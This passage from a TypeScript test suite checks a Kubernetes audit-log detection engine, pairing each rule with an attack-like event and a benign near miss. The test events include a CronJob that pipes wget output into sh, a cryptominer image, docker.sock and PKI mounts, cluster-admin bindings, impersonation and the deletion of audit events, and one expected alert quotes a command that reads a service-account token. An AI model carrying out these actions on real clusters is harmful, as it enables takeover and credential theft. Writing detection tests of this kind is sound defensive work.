    miss: createDeployment({ volumes: [{ name: 'logs', hostPath: { path: '/var/logs-archive' } }] }), missWhy: 'a mount of /var/logs-archive (not below /var/log)' },
  { rule: 'KA-MOUNT-003', behaviour: 'a pod with /etc/kubernetes/pki refused by Pod Security', hit: createPod({ volumes: [{ name: 'pki', hostPath: { path: '/etc/kubernetes/pki' } }] }, { namespace: 'pci' }, { responseObject: undefined, ...forbidden('pods "pki-reader" is forbidden: violates PodSecurity "baseline:latest": hostPath volumes (volume "pki")') }),
    miss: createPod({}, { namespace: 'pci' }, { responseObject: undefined, ...forbidden('pods is forbidden: exceeded quota') }), missWhy: 'a plain pod refused for another reason' },
  { rule: 'KA-MOUNT-004', behaviour: 'a ReplicaSet controller pod mounting /var/run/docker.sock', hit: { ...controller('replicaset-controller'), ...createPod({ volumes: [{ name: 'd', hostPath: { path: '/var/run/docker.sock' } }] }) },
    miss: { ...controller('replicaset-controller'), ...createPod({ volumes: [{ name: 'd', hostPath: { path: '/data' } }] }) }, missWhy: 'a controller pod mounting /data' },
  { rule: 'KA-EXEC-001', behaviour: 'a websocket exec (verb get, 101)', hit: exec('get', 101, { userAgent: 'curl/8.4.0' }),
    miss: { ...get('pods', 'payments', { requestURI: '/api/v1/namespaces/payments/pods/p/log', objectRef: { resource: 'pods', namespace: 'payments', name: 'p', apiVersion: 'v1', subresource: 'log' } }) }, missWhy: 'kubectl logs' },
  { rule: 'KA-EXEC-002', behaviour: 'a port-forward upgraded with 101', hit: { verb: 'create', requestURI: '/api/v1/namespaces/payments/pods/ledger-db-0/portforward', objectRef: { resource: 'pods', namespace: 'payments', name: 'ledger-db-0', apiVersion: 'v1', subresource: 'portforward' }, responseStatus: { metadata: {}, code: 101 } },
    miss: { ...mallory, verb: 'create', objectRef: { resource: 'pods', namespace: 'payments', name: 'ledger-db-0', apiVersion: 'v1', subresource: 'portforward' }, ...forbidden('forbidden') }, missWhy: 'a refused port-forward' },
  { rule: 'KA-EXEC-003', behaviour: 'a request through nodes/proxy', hit: { ...get('nodes', undefined, { requestURI: '/api/v1/nodes/node-1/proxy/run/kube-system/x/c', objectRef: { resource: 'nodes', name: 'node-1', apiVersion: 'v1', subresource: 'proxy' } }) },
    miss: { ...get('nodes', undefined, { objectRef: { resource: 'nodes', name: 'node-1', apiVersion: 'v1' } }) }, missWhy: 'a plain node read' },
  { rule: 'KA-EXEC-004', behaviour: 'an exec refused', hit: exec('create', 403, { ...mallory, ...forbidden('cannot create resource "pods/exec"') }),
    miss: exec('create', 101), missWhy: 'an exec that went through' },
  { rule: 'KA-CRON-001', behaviour: 'a CronJob piping wget into sh', hit: cronJob('*/3 * * * *', { image: 'docker.io/library/alpine:3.19', command: ['/bin/sh', '-c', 'wget -qO- http://127.0.0.143:8000/s2 | sh'] }),
    miss: cronJob('*/2 * * * *', { image: 'registry.corp.example/payments/ledger-api:3.8.2', command: ['/app/reconcile', '--since=2m'] }), missWhy: 'the benign reconcile CronJob' },
  { rule: 'KA-CRON-002', behaviour: 'a CronJob running every minute', hit: cronJob('* * * * *', { image: 'registry.corp.example/app:1', command: ['/app/run'] }),
    miss: cronJob('15 */6 * * *', { image: 'registry.corp.example/app:1', command: ['/app/run'] }), missWhy: 'a CronJob every six hours' },
  { rule: 'KA-CRON-003', behaviour: 'a CronJob with a privileged template', hit: cronJob('0 3 * * *', { image: 'alpine', command: ['true'], securityContext: { privileged: true } }),
    miss: cronJob('0 3 * * *', { image: 'alpine', command: ['true'], securityContext: { runAsNonRoot: true } }), missWhy: 'a CronJob running as non-root' },
  { rule: 'KA-CRON-004', behaviour: 'a person creating a CronJob in kube-system', hit: cronJob('0 3 * * *', { image: 'alpine', command: ['true'] }, {}, 'kube-system'),
    miss: cronJob('0 3 * * *', { image: 'alpine', command: ['true'] }, {}, 'payments'), missWhy: 'the same CronJob in an application namespace' },
  { rule: 'KA-CRON-005', behaviour: 'a CronJob create refused', hit: { ...mallory, objectRef: { resource: 'cronjobs', namespace: 'payments', apiGroup: 'batch', apiVersion: 'v1' }, ...forbidden('cronjobs.batch is forbidden') },
    miss: { ...mallory, objectRef: { resource: 'jobs', namespace: 'payments', apiGroup: 'batch', apiVersion: 'v1' }, ...forbidden('jobs.batch is forbidden') }, missWhy: 'a Job create refused' },
  { rule: 'KA-STATIC-001', behaviour: 'a person creating a mirror-annotated pod', hit: createPod({ nodeName: 'node-2' }, { namespace: 'kube-system', annotations: { 'kubernetes.io/config.mirror': '8c5f1e0e', 'kubernetes.io/config.source': 'file' } }),
    miss: { ...node2, ...createPod({ nodeName: 'node-2' }, { namespace: 'kube-system', annotations: { 'kubernetes.io/config.mirror': '041b0886' } }) }, missWhy: 'a kubelet creating its own mirror pod' },
  { rule: 'KA-STATIC-002', behaviour: 'a person pinning a pod to a node', hit: createPod({ nodeName: 'node-1' }),
    miss: createPod({}), missWhy: 'a pod left to the scheduler' },
  { rule: 'KA-STATIC-003', behaviour: 'a node creating a mirror pod in an application namespace', hit: { ...node2, ...createPod({ nodeName: 'node-2' }, { annotations: { 'kubernetes.io/config.mirror': '4b9e2c71' } }) },
    miss: { ...node2, ...createPod({ nodeName: 'node-2' }, { namespace: 'kube-system', annotations: { 'kubernetes.io/config.mirror': '041b0886' } }) }, missWhy: 'a node mirror pod in kube-system' },
  { rule: 'KA-STATIC-007', behaviour: 'a node creating an unknown mirror pod in kube-system', hit: { ...node2, ...createPod({ nodeName: 'node-2' }, { namespace: 'kube-system', annotations: { 'kubernetes.io/config.mirror': '77ad01c3' } }) },
    miss: { ...node2, ...createPod({ nodeName: 'node-2' }, { namespace: 'kube-system', annotations: { 'kubernetes.io/config.mirror': '041b0886' } }, { objectRef: { resource: 'pods', namespace: 'kube-system', name: 'kube-scheduler-node-2', apiVersion: 'v1' } }) }, missWhy: 'the scheduler\'s mirror pod' },
  { rule: 'KA-STATIC-004', behaviour: 'NodeRestriction refusing a node\'s pod', hit: { ...node2, ...createPod({ nodeName: 'node-2' }, {}, { responseObject: undefined, ...forbidden('pod does not have "kubernetes.io/config.mirror" annotation, node "node-2" can only create mirror pods') }) },
    miss: { ...mallory, ...createPod({}, {}, { responseObject: undefined, ...forbidden('pods is forbidden') }) }, missWhy: 'a person\'s pod refused' },
  { rule: 'KA-STATIC-005', behaviour: 'a node deleting a pod bound to another node', hit: { ...node1, ...podDelete('node-2') },
    miss: { ...node2, ...podDelete('node-2') }, missWhy: 'a kubelet deleting a pod bound to itself' },
  { rule: 'KA-STATIC-006', behaviour: 'NodeRestriction refusing a node\'s renewal of another node\'s lease', hit: { ...node1, ...lease('node-2', 'kube-node-lease', forbidden('leases.coordination.k8s.io "node-2" is forbidden: can only access node lease with the same name as the requesting node')) },
    miss: { ...node1, verb: 'patch', objectRef: { resource: 'nodes', name: 'node-1', apiVersion: 'v1' }, ...forbidden('is not allowed to modify labels: node-restriction.kubernetes.io/pool') }, missWhy: 'a kubelet refused a label on its own Node' },
  { rule: 'KA-CONT-001', behaviour: 'a patch that makes a Deployment privileged', hit: patchCart({ spec: { template: { spec: { containers: [{ name: 'cart', securityContext: { privileged: true } }] } } } }),
    miss: patchCart({ spec: { template: { spec: { containers: [{ name: 'cart', image: 'registry.corp.example/shop/cart:7.1.94' }] } } } }), missWhy: 'an image bump of the already-privileged Deployment' },
  { rule: 'KA-CONT-002', behaviour: 'a JSON patch adding hostPID', hit: patchCart([{ op: 'add', path: '/spec/template/spec/hostPID', value: true }]),
    miss: patchCart([{ op: 'add', path: '/spec/template/spec/hostPID', value: false }]), missWhy: 'a JSON patch clearing hostPID' },
  { rule: 'KA-CONT-003', behaviour: 'a host-network pod', hit: createPod({ hostNetwork: true }),
    miss: { ...controller('daemon-set-controller'), ...createPod({ hostNetwork: true }) }, missWhy: 'the DaemonSet controller creating a host-network pod' },
  { rule: 'KA-CONT-004', behaviour: 'a pod adding SYS_PTRACE', hit: createPod({ hostPID: false, containers: [{ name: 'c', image: 'perf', securityContext: { capabilities: { add: ['SYS_PTRACE'] } } }] }),
    miss: createPod({ containers: [{ name: 'c', image: 'web', securityContext: { capabilities: { add: ['NET_BIND_SERVICE'] } } }] }), missWhy: 'a pod adding NET_BIND_SERVICE' },
  { rule: 'KA-CONT-005', behaviour: 'a pod running a miner image', hit: createPod({ containers: [{ name: 'c', image: 'docker.io/c3pool/xmrig:6.21.0' }] }),
    miss: createPod({ containers: [{ name: 'c', image: 'registry.corp.example/img/optimizer:1.0' }] }), missWhy: 'an ordinary image' },
  { rule: 'KA-CONT-006', behaviour: 'an ephemeral container injected into a running pod', hit: { verb: 'patch', userAgent: 'curl/8.4.0', requestURI: '/api/v1/namespaces/storefront/pods/catalog-1/ephemeralcontainers', objectRef: { resource: 'pods', namespace: 'storefront', name: 'catalog-1', apiVersion: 'v1', subresource: 'ephemeralcontainers' }, requestObject: { spec: { ephemeralContainers: [{ name: 'dbg', image: 'busybox', securityContext: { privileged: true } }] } }, ...ok() },
    miss: { ...mallory, verb: 'patch', objectRef: { resource: 'pods', namespace: 'storefront', name: 'catalog-1', apiVersion: 'v1', subresource: 'ephemeralcontainers' }, ...forbidden('forbidden') }, missWhy: 'a refused ephemeral container' },
  { rule: 'KA-CONT-007', behaviour: 'a pod with seccomp Unconfined', hit: createPod({ securityContext: { seccompProfile: { type: 'Unconfined' } } }),
    miss: createPod({ securityContext: { seccompProfile: { type: 'RuntimeDefault' } } }), missWhy: 'a pod with RuntimeDefault seccomp' },
  { rule: 'KA-CONT-008', behaviour: 'a person creating a pod in kube-system', hit: createPod({}, { namespace: 'kube-system' }),
    miss: { ...controller('replicaset-controller'), ...createPod({}, { namespace: 'kube-system' }) }, missWhy: 'the ReplicaSet controller creating a pod in kube-system' },
  { rule: 'KA-CONT-009', behaviour: 'a pod refused by Pod Security for seccomp Unconfined', hit: createPod({ securityContext: { runAsUser: 0, seccompProfile: { type: 'Unconfined' } } }, { namespace: 'pci' }, { responseObject: undefined, ...forbidden('pods "seccomp-off" is forbidden: violates PodSecurity "baseline:latest": seccompProfile') }),
    miss: { ...mallory, verb: 'create', objectRef: { resource: 'pods', namespace: 'payments', apiVersion: 'v1' }, ...forbidden('pods is forbidden: User "mallory" cannot create resource "pods"') }, missWhy: 'an RBAC refusal that carries no body' },
  { rule: 'KA-CONT-010', behaviour: 'a ReplicaSet controller pod on the host network', hit: { ...controller('replicaset-controller'), ...createPod({ hostNetwork: true }) },
    miss: { ...controller('replicaset-controller'), ...createPod({ hostNetwork: false }) }, missWhy: 'a controller pod off the host network' },
  { rule: 'KA-RBAC-001', behaviour: 'a ClusterRoleBinding to cluster-admin', hit: binding('ClusterRoleBinding', 'cluster-admin', [{ kind: 'ServiceAccount', name: 'report-gen', namespace: 'payments' }]),
    miss: binding('RoleBinding', 'edit', [{ kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: 'dana@corp.example' }]), missWhy: 'a RoleBinding to edit' },
  { rule: 'KA-RBAC-002', behaviour: 'a JSON patch adding verbs * on secrets to a ClusterRole', hit: { ...clusterRole([{ apiGroups: [''], resources: ['pods'], verbs: ['get'] }], { verb: 'patch', responseObject: undefined, requestObject: [{ op: 'add', path: '/rules/-', value: { apiGroups: [''], resources: ['secrets'], verbs: ['*'] } }], ...ok() }) },
    miss: clusterRole([{ apiGroups: [''], resources: ['pods', 'pods/log'], verbs: ['get', 'list'] }]), missWhy: 'a pod-log reader role' },
  { rule: 'KA-RBAC-003', behaviour: 'a person patching a system: ClusterRole', hit: { user: { username: 'minikube-user', groups: ['system:masters'] }, verb: 'patch', objectRef: { resource: 'clusterroles', name: 'system:node-problem-detector', apiGroup: 'rbac.authorization.k8s.io', apiVersion: 'v1' }, ...ok() },
    miss: { user: { username: 'system:apiserver', groups: ['system:masters'] }, verb: 'update', objectRef: { resource: 'clusterroles', name: 'system:node-problem-detector', apiGroup: 'rbac.authorization.k8s.io', apiVersion: 'v1' }, ...ok() }, missWhy: 'the API server reconciling it' },
  { rule: 'KA-RBAC-004', behaviour: 'a ClusterRoleBinding create refused', hit: { ...mallory, objectRef: { resource: 'clusterrolebindings', apiGroup: 'rbac.authorization.k8s.io', apiVersion: 'v1' }, ...forbidden('clusterrolebindings.rbac.authorization.k8s.io is forbidden') },
    miss: { ...mallory, verb: 'list', objectRef: { resource: 'clusterrolebindings', apiGroup: 'rbac.authorization.k8s.io', apiVersion: 'v1' }, ...forbidden('forbidden') }, missWhy: 'a refused list of bindings' },
  { rule: 'KA-IMP-001', behaviour: 'a developer acting as a service account', hit: { user: { username: 'dana@corp.example', groups: ['dev-payments'] }, impersonatedUser: { username: 'system:serviceaccount:payments:report-gen', groups: ['system:serviceaccounts'] }, ...get('secrets', 'payments', { verb: 'list' }) },
    miss: { user: { username: 'dana@corp.example', groups: ['dev-payments'] }, ...get('pods', 'payments', { verb: 'list' }) }, missWhy: 'the developer acting as herself' },
  { rule: 'KA-IMP-002', behaviour: 'acting as a kube-system controller', hit: { impersonatedUser: { username: 'system:serviceaccount:kube-system:generic-garbage-collector' }, ...get('secrets', 'kube-system', { verb: 'list' }) },
    miss: { impersonatedUser: { username: 'system:serviceaccount:payments:report-gen' }, ...get('secrets', 'payments', { verb: 'list' }) }, missWhy: 'acting as an application service account' },
  { rule: 'KA-IMP-003', behaviour: 'an impersonation refused', hit: { ...mallory, annotations: undefined, ...get('nodes', undefined, { verb: 'list', responseStatus: { metadata: {}, status: 'Failure', reason: 'Forbidden', code: 403, message: 'users "platform-admin" is forbidden: User "mallory" cannot impersonate resource "users" in API group "" at the cluster scope' } }) },
    miss: { ...mallory, ...get('nodes', undefined, { verb: 'list', ...forbidden('nodes is forbidden: User "mallory" cannot list resource "nodes"') }) }, missWhy: 'a plain refused list' },
  { rule: 'KA-EXPOSE-001', behaviour: 'a Service created as NodePort', hit: service({ type: 'NodePort', ports: [{ port: 5432, nodePort: 31337 }] }),
    miss: { ...service({}), verb: 'patch', requestObject: [{ op: 'replace', path: '/spec/type', value: 'ClusterIP' }, { op: 'remove', path: '/spec/ports/0/nodePort' }], ...ok() }, missWhy: 'a patch turning it back into ClusterIP' },
  { rule: 'KA-EVADE-001', behaviour: 'a MutatingWebhookConfiguration created', hit: { objectRef: { resource: 'mutatingwebhookconfigurations', name: 'pod-identity-injector', apiGroup: 'admissionregistration.k8s.io', apiVersion: 'v1' }, ...ok(201) },
    miss: { verb: 'list', objectRef: { resource: 'mutatingwebhookconfigurations', apiGroup: 'admissionregistration.k8s.io', apiVersion: 'v1' }, ...ok() }, missWhy: 'listing webhook configurations' },
  { rule: 'KA-EVADE-002', behaviour: 'a webhook configuration deleted', hit: { verb: 'delete', objectRef: { resource: 'validatingwebhookconfigurations', name: 'policy', apiGroup: 'admissionregistration.k8s.io', apiVersion: 'v1' }, ...ok() },
    miss: { ...controller('generic-garbage-collector'), verb: 'delete', objectRef: { resource: 'validatingwebhookconfigurations', name: 'policy', apiGroup: 'admissionregistration.k8s.io', apiVersion: 'v1' }, ...ok() }, missWhy: 'the garbage collector deleting it' },
  { rule: 'KA-EVADE-003', behaviour: 'webhook configuration access refused', hit: { ...mallory, verb: 'get', objectRef: { resource: 'mutatingwebhookconfigurations', name: 'mallory-hook', apiGroup: 'admissionregistration.k8s.io', apiVersion: 'v1' }, ...forbidden('forbidden') },
    miss: { ...mallory, verb: 'get', objectRef: { resource: 'mutatingwebhookconfigurations', name: 'mallory-hook', apiGroup: 'admissionregistration.k8s.io', apiVersion: 'v1' }, responseStatus: { metadata: {}, code: 404 } }, missWhy: 'a webhook look-up that found nothing' },
  { rule: 'KA-EVADE-004', behaviour: 'a person deleting events.k8s.io Events', hit: { userAgent: 'curl/8.4.0', verb: 'deletecollection', level: 'Metadata', requestURI: '/apis/events.k8s.io/v1/namespaces/kube-system/events', objectRef: { resource: 'events', namespace: 'kube-system', apiGroup: 'events.k8s.io', apiVersion: 'v1' }, ...ok() },
    miss: { ...controller('namespace-controller'), verb: 'deletecollection', level: 'Metadata', objectRef: { resource: 'events', namespace: 'old', apiGroup: 'events.k8s.io', apiVersion: 'v1' }, ...ok() }, missWhy: 'the namespace controller emptying a deleted namespace' },
];

/** Rate rules have their own tests below: a single event can never make them fire. */
const RATE_RULES = ['KA-BRUTE-001', 'KA-BRUTE-002', 'KA-BRUTE-004'];
/** Rules that stay off until an operator fills a shipped list; tested below with a site file. */
const LIST_RULES = ['KA-CONT-011', 'KA-UA-004'];

function ruleIds(e: AuditEvent): string[] {
  return new DetectionEngine(ruleSet, { clusterName: 'test', clusterId: '' }).hits(e).map((h) => h.ruleId);
}

describe('system rules, one behaviour at a time', () => {
  it('has a hit and a near miss for every rule', () => {
    // The attack-class rules' cases are run by attack-rules.test.ts, the identity and workload cases' by identity-cases.test.ts and workload-cases.test.ts.
    const covered = new Set([...CASES.map((c) => c.rule), ...ATTACK_CASES.map((c) => c.rule), ...IDENTITY_RULE_CASES.map((c) => c.rule), ...WORKLOAD_CASES.map((c) => c.rule), ...RATE_RULES, ...LIST_RULES, 'KA-CRED-016', 'KA-CRED-017', 'KA-IMPACT-001', 'KA-NODE-001', 'KA-EXPOSE-006', 'KA-RBAC-011', 'KA-BASE-001', 'KA-BASE-002']);
    for (const c of NOISE_CASES) covered.add(c.rule); // cases-noise.test.ts
    // Rules on records of other sources (source:) have their cases with their parsers (record-rules.test.ts).
    expect(ruleSet.rules.filter((r) => !r.record).map((r) => r.id).filter((id) => !covered.has(id))).toEqual([]);
  });

  for (const c of CASES) {
    it(`${c.rule} fires on ${c.behaviour}, not on ${c.missWhy}`, () => {
      expect(ruleIds(ev(c.hit))).toContain(c.rule);
      expect(ruleIds(ev(c.miss))).not.toContain(c.rule);
    });
  }

  it('KA-BRUTE-001 fires on more than 10 requests from one address mostly refused as unauthenticated, not on 10', () => {
    const engine = new DetectionEngine(ruleSet, { clusterName: 'test', clusterId: '' });
    const failedLogin = (i: number, ip: string) => ev({
      verb: 'list', level: 'Metadata', responseStatus: { metadata: {}, code: 401 },
      stage: 'ResponseStarted', user: {}, sourceIPs: [ip], requestURI: '/api/v1/namespaces/payments/secrets',
      objectRef: { resource: 'secrets', namespace: 'payments', apiVersion: 'v1' }, auditID: `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
      requestReceivedTimestamp: `2026-11-22T12:06:${String(10 + i).padStart(2, '0')}.000000Z`,
    });
    const hitsFor = (ip: string, n: number, from: number) => Array.from({ length: n }, (_, i) => engine.hits(failedLogin(from + i, ip)))
      .flat().filter((h) => h.ruleId === 'KA-BRUTE-001');
    expect(hitsFor('10.1.1.1', 10, 0)).toHaveLength(0);
    expect(hitsFor('10.2.2.2', 14, 100)).toHaveLength(1); // fires once per window, at the 11th
  });

  it('KA-BRUTE-001 and KA-BRUTE-002 stay silent on an admin testing rights by impersonation (audit2rbac: 37 requests, 30 % refused)', () => {
    const engine = new DetectionEngine(ruleSet, { clusterName: 'test', clusterId: '' });
    const lines = readFileSync(path.join(CORPUS, 'audit2rbac', 'demo.log'), 'utf8').trim().split('\n');
    expect(lines).toHaveLength(37);
    const brute = lines.flatMap((l) => {
      const parsed = parseAuditLine(l);
      if (!parsed.ok) throw new Error(parsed.error);
      return engine.hits(parsed.event);
    }).filter((h) => h.category === 'brute-force');
    expect(brute).toEqual([]);
  });

  it('KA-BRUTE-002 fires on one identity refused more than 5 times, not on 5 refusals', () => {
    const engine = new DetectionEngine(ruleSet, { clusterName: 'test', clusterId: '' });
    const refused = (i: number, user: string) => ev({
      verb: 'list', level: 'Metadata', responseStatus: { metadata: {}, code: 403 },
      user: { username: user, groups: ['system:authenticated'] }, requestURI: '/api/v1/namespaces/payments/secrets',
      objectRef: { resource: 'secrets', namespace: 'payments', apiVersion: 'v1' }, auditID: `00000000-0000-4000-9000-${String(i).padStart(12, '0')}`,
      requestReceivedTimestamp: `2026-11-22T12:07:${String(10 + i).padStart(2, '0')}.000000Z`,
    });
    const hitsFor = (user: string, n: number, from: number) => Array.from({ length: n }, (_, i) => engine.hits(refused(from + i, user)))
      .flat().filter((h) => h.ruleId === 'KA-BRUTE-002');
    expect(hitsFor('intern-a', 5, 0)).toHaveLength(0);
    expect(hitsFor('intern-b', 6, 100)).toHaveLength(1);
  });

  it('KA-BRUTE-004 notes one identity refused 3 times, not twice', () => {
    const engine = new DetectionEngine(ruleSet, { clusterName: 'test', clusterId: '' });
    const refused = (i: number, user: string) => ev({
      verb: 'get', level: 'Metadata', responseStatus: { metadata: {}, code: 403 },
      user: { username: user, groups: ['system:authenticated'] }, requestURI: `/apis/apps/v1/namespaces/payments/deployments/d-${i}`,
      objectRef: { resource: 'deployments', namespace: 'payments', name: `d-${i}`, apiGroup: 'apps', apiVersion: 'v1' }, auditID: `00000000-0000-4000-9100-${String(i).padStart(12, '0')}`,
      requestReceivedTimestamp: `2026-11-22T12:08:${String(10 + i).padStart(2, '0')}.000000Z`,
    });
    const hitsFor = (user: string, n: number, from: number) => Array.from({ length: n }, (_, i) => engine.hits(refused(from + i, user)))
      .flat().filter((h) => h.ruleId === 'KA-BRUTE-004');
    expect(hitsFor('intern-a', 2, 0)).toHaveLength(0);
    const third = hitsFor('intern-b', 3, 100);
    expect(third).toHaveLength(1);
    expect(third[0].level).toBe('low');
  });

  it('alarms once per exec although the 101 is logged at both stages', () => {
    const engine = new DetectionEngine(ruleSet, { clusterName: 'test', clusterId: '' });
    const started = ev({ ...exec('create', 101), stage: 'ResponseStarted' });
    const completeLine = JSON.parse(JSON.stringify({ ...exec('create', 101) }));
    const complete = ev({ ...completeLine, auditID: started.head.auditID });
    const first = engine.hits(started).filter((h) => h.ruleId === 'KA-EXEC-001');
    const second = engine.hits(complete).filter((h) => h.ruleId === 'KA-EXEC-001');
    expect(first).toHaveLength(1);
    expect(first[0].summary).toContain('cat /var/run/secrets/kubernetes.io/serviceaccount/token');
    expect(second).toEqual([]);
  });

  it('treats / as a sensitive host path only when it is the root itself', () => {
    expect(ruleIds(ev(createPod({ volumes: [{ name: 'h', hostPath: { path: '/' } }] })))).toContain('KA-MOUNT-001');
    expect(ruleIds(ev(createPod({ volumes: [{ name: 'h', hostPath: { path: '/etcd-backups' } }] })))).not.toContain('KA-MOUNT-001');
    expect(ruleIds(ev(createPod({ volumes: [{ name: 'h', hostPath: { path: '/etc/../var/lib/kubelet/pods' } }] })))).toContain('KA-MOUNT-001');
  });

  it('KA-STATIC-005 fires on writes to another node\'s Node, Lease and pods, and on Leases outside kube-node-lease', () => {
    const own: Over[] = [
      { ...node1, ...lease('node-1') },
      { ...node1, verb: 'patch', level: 'Request', objectRef: { resource: 'nodes', name: 'node-1', apiVersion: 'v1', subresource: 'status' }, requestObject: { status: { conditions: [] } }, ...ok() },
      { ...node1, ...createPod({ nodeName: 'node-1' }, { namespace: 'kube-system', annotations: { 'kubernetes.io/config.mirror': '041b0886' } }) },
      // Pod status at RequestResponse level: the response shows the pod's node.
      { ...node1, verb: 'patch', objectRef: { resource: 'pods', namespace: 'payments', name: 'p', apiVersion: 'v1', subresource: 'status' }, requestObject: { status: { phase: 'Running' } }, responseObject: podSpec({ nodeName: 'node-1' }), ...ok() },
      // Pod status at Request level: no node to compare, no alarm.
      { ...node1, verb: 'patch', level: 'Request', objectRef: { resource: 'pods', namespace: 'payments', name: 'p', apiVersion: 'v1', subresource: 'status' }, requestObject: { status: { phase: 'Running' } }, ...ok() },
      { ...node1, verb: 'create', objectRef: { resource: 'events', namespace: 'payments', name: 'p.17a2b3c4d5e6f708', apiVersion: 'v1' }, ...ok(201) },
      { ...node1, verb: 'create', objectRef: { resource: 'csinodes', name: 'node-1', apiGroup: 'storage.k8s.io', apiVersion: 'v1' }, ...ok(201) },
    ];
    for (const e of own) expect(ruleIds(ev(e)), JSON.stringify(e.objectRef)).not.toContain('KA-STATIC-005');
    const cross: Over[] = [
      { ...node1, ...lease('node-2') },
      { ...node1, ...lease('kube-controller-manager', 'kube-system') },
      { ...node1, verb: 'patch', level: 'Request', objectRef: { resource: 'nodes', name: 'node-2', apiVersion: 'v1', subresource: 'status' }, requestObject: { status: { conditions: [] } }, ...ok() },
      { ...node1, ...createPod({ nodeName: 'node-2' }, { namespace: 'kube-system', annotations: { 'kubernetes.io/config.mirror': '041b0886' } }) },
      { ...node1, verb: 'patch', objectRef: { resource: 'pods', namespace: 'payments', name: 'p', apiVersion: 'v1', subresource: 'status' }, requestObject: { status: { phase: 'Failed' } }, responseObject: podSpec({ nodeName: 'node-2' }), ...ok() },
      { ...node1, verb: 'delete', objectRef: { resource: 'csinodes', name: 'node-2', apiGroup: 'storage.k8s.io', apiVersion: 'v1' }, ...ok() },
    ];
    for (const e of cross) expect(ruleIds(ev(e)), JSON.stringify(e.objectRef)).toContain('KA-STATIC-005');
    // The username alone is not a node identity (the Node authorizer wants the system:nodes group too).
    expect(ruleIds(ev({ ...node1, user: { username: 'system:node:node-1', groups: ['system:authenticated'] }, ...lease('node-2') }))).not.toContain('KA-STATIC-005');
    // A refused cross-node pod delete (no pod in the response) is KA-STATIC-004's; a refused lease renewal KA-STATIC-006's.
    const refusedDelete = ruleIds(ev({ ...node1, ...podDelete('node-2', { responseObject: undefined, ...forbidden('pods "frontend-7d9c-abcde" is forbidden: node "node-1" can only delete pods with spec.nodeName set to itself') }) }));
    expect(refusedDelete).toContain('KA-STATIC-004');
    expect(refusedDelete).not.toContain('KA-STATIC-005');
    expect(ruleIds(ev({ ...node1, ...lease('node-2', 'kube-node-lease', forbidden('forbidden')) }))).toEqual(['KA-STATIC-006']);
  });

  it('KA-STATIC-005 and -006 stay silent on every kubelet write in the capture and fire on the same writes made across nodes', () => {
    const engine = new DetectionEngine(ruleSet, { clusterName: 'test', clusterId: '' });
    const swapped = new DetectionEngine(ruleSet, { clusterName: 'test', clusterId: '' });
    const swap: Record<string, string> = { 'system:node:node-1': 'system:node:node-2', 'system:node:node-2': 'system:node:node-1' };
    let writes = 0;
    let crossHits = 0;
    const kinds = new Set<string>();
    for (const line of realApiserverFiles().flatMap((f) => f.lines)) {
      const o = JSON.parse(line) as { user?: { username?: string }; verb: string; objectRef?: { resource?: string; subresource?: string } };
      const user = o.user?.username ?? '';
      if (!user.startsWith('system:node:')) continue;
      const parsed = parseAuditLine(line);
      if (!parsed.ok) throw new Error(parsed.error);
      const hits = engine.hits(parsed.event).filter((h) => h.ruleId === 'KA-STATIC-005' || h.ruleId === 'KA-STATIC-006');
      expect(hits, `${user} ${o.verb} ${o.objectRef?.resource}`).toEqual([]);
      if (!['create', 'update', 'patch', 'delete'].includes(o.verb) || !['pods', 'nodes', 'leases'].includes(o.objectRef?.resource ?? '')) continue;
      writes++;
      // The same request by the other node: what a stolen node credential aimed at its neighbour looks like.
      const other = parseAuditLine(JSON.stringify({ ...o, user: { ...o.user, username: swap[user] } }));
      if (!other.ok) throw new Error(other.error);
      if (swapped.hits(other.event).some((h) => h.ruleId === 'KA-STATIC-005')) {
        crossHits++;
        kinds.add(`${o.verb} ${o.objectRef?.resource}${o.objectRef?.subresource ? `/${o.objectRef.subresource}` : ''}`);
      }
    }
    expect(writes).toBeGreaterThan(400);
    // Leases, Node create and status, mirror pods and pod deletes show their node; status patches at level Request do not.
    expect([...kinds].sort()).toEqual(expect.arrayContaining(['create leases', 'create nodes', 'create pods', 'delete pods', 'patch nodes/status', 'update leases']));
    expect(crossHits).toBeGreaterThan(100);
  });

  it('KA-UA-004 is off with the shipped, empty admin_networks, and on once a site file lists them', () => {
    const kubectl = { ...mallory, userAgent: 'kubectl/v1.30.2 (linux/amd64) kubernetes/abc', sourceIPs: ['203.0.113.9'], ...get('pods', 'payments', { verb: 'list' }) };
    expect(ruleSet.lists.admin_networks).toEqual([]);
    const shipped = ruleFiles().map((f) => ({ name: f, text: readFileSync(f, 'utf8') }));
    expect(ruleIds(ev(kubectl))).not.toContain('KA-UA-004');
    const site = compileRuleTexts([...shipped, { name: 'site.yaml', text: 'lists:\n  admin_networks: [10.20.0.0/16, 192.0.2.10/32]\n' }]);
    const ids = (e: AuditEvent) => new DetectionEngine(site, { clusterName: 'test', clusterId: '' }).hits(e).map((h) => h.ruleId);
    expect(ids(ev(kubectl))).toContain('KA-UA-004');
    // X-Forwarded-For entries come first: the peer is the last address.
    expect(ids(ev({ ...kubectl, sourceIPs: ['10.20.1.1', '203.0.113.9'] }))).toContain('KA-UA-004');
    expect(ids(ev({ ...kubectl, sourceIPs: ['203.0.113.9', '10.20.1.1'] }))).not.toContain('KA-UA-004');
    expect(ids(ev({ ...kubectl, sourceIPs: ['192.0.2.10'] }))).not.toContain('KA-UA-004');
    expect(ids(ev({ ...kubectl, userAgent: 'Go-http-client/1.1' }))).not.toContain('KA-UA-004');
    expect(() => compileRuleTexts([...shipped, { name: 'bad.yaml', text: 'lists:\n  admin_networks: [10.20.0.0]\n' }])).toThrow(/admin_networks|invalid CIDR/);
  });

  it('KA-CONT-011 is off with the shipped, empty trusted_registries, and on once a site file lists registries', () => {
    const shipped = ruleFiles().map((f) => ({ name: f, text: readFileSync(f, 'utf8') }));
    expect(ruleSet.lists.trusted_registries).toEqual([]);
    const miner = createPod({ containers: [{ name: 'c', image: 'docker.io/c3pool/xmrig:6.21.0' }] });
    const corp = createPod({ containers: [{ name: 'c', image: 'registry.corp.example/img/optimizer:1.0' }, { name: 'side', image: 'REGISTRY.corp.example/img/sidecar' }] });
    const mixed = createPod({ containers: [{ name: 'c', image: 'registry.corp.example/img/optimizer:1.0' }], initContainers: [{ name: 'i', image: 'busybox' }] });
    expect(ruleIds(ev(miner))).not.toContain('KA-CONT-011');

    const site = compileRuleTexts([...shipped, { name: 'site.yaml', text: 'lists:\n  trusted_registries: [registry.corp.example, ghcr.io]\n' }]);
